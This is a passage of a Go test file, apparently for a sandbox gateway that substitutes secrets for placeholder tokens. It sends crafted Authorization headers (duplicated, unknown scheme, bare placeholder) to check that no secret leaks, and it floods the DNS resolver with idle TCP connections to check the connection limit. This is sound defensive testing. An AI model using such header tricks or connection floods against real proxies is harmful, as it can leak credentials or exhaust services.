		{"two headers", "Authorization: Bearer " + placeholder + "\r\nAuthorization: Basic " + placeholder + "\r\n"},
		{"other scheme", "Authorization: Junk " + placeholder + "\r\n"},
		{"alone", "Authorization: " + placeholder + "\r\n"},
	} {
		t.Run(c.name, func(t *testing.T) {
			tc := l.sandboxTLS(t, ca, pubWeb+":8443", "allowed.test")
			status, body := roundTrip(t, tc, "GET / HTTP/1.1\r\nHost: allowed.test\r\n"+c.headers+"\r\n")
			if strings.Contains(body, secret) {
				t.Fatalf("the secret came back: %d %q", status, body)
			}
			if status != 403 {
				t.Fatalf("answered %d %q", status, body)
			}
		})
	}
	// The scheme in another case is the same scheme.
	tc := l.sandboxTLS(t, ca, pubWeb+":8443", "allowed.test")
	if status, body := roundTrip(t, tc, "GET / HTTP/1.1\r\nHost: allowed.test\r\nAuthorization: bearer "+placeholder+"\r\n\r\n"); status == 403 {
		t.Fatalf("scheme in lower case refused: %q", body)
	}
}

// TestHostileDNSTCPConnections: idle TCP connections to the resolver hold at most MaxConns of it at
// once; one more is closed unanswered and recorded.
func TestHostileDNSTCPConnections(t *testing.T) {
	l := newLab(t, `{"mode":"open"}`, func(c *Config) { c.MaxConns = 4 })
	for range 4 {
		l.dialSandbox(t, "192.0.2.53:53") // sends nothing
	}
	for deadline := time.Now().Add(10 * time.Second); l.gw.dns.tcp.active.Load() < 4; time.Sleep(5 * time.Millisecond) {
		if time.Now().After(deadline) {
			t.Fatalf("%d resolver connections held", l.gw.dns.tcp.active.Load())
		}
	}
	c := l.dialSandbox(t, "192.0.2.53:53")
	m, _, err := (&dns.Client{Net: "tcp"}).ExchangeWithConn(new(dns.Msg).SetQuestion("allowed.test.", dns.TypeA), &dns.Conn{Conn: c})
	if err == nil {
		t.Fatalf("one resolver connection too many answered: %v", m)
	}
	l.sink.wait(t, "one too many", refusedFor(KindDNS, "", ReasonTooMany))
}
